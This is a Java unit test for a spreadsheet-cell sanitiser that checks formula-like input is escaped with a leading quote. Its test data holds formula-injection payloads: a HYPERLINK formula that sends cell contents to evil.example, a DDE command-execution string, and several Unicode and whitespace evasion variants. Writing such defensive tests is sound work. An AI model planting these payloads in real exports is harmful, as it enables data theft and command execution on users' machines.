package dev.baton.shared;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SpreadsheetSafeTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"https://evil.example?x=\"&A1)",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(A1:A9)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "  =1+1",
                "\uFF1D1+1",
                "\u00A0=1+1",
                "\u3000\uFF1D1+1",
                "\u200B=1+1",
                "\uFEFF@SUM(A1:A9)",
                "\u0007=1+1"
            })
    void what_would_be_calculated_is_shown_instead(String text) {
        assertThat(SpreadsheetSafe.cell(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Acme", "1 = 1", "a@b.example", "  ", "'=quoted"})
    void other_text_stays_as_it_is(String text) {
        assertThat(SpreadsheetSafe.cell(text)).isEqualTo(text);
    }
}
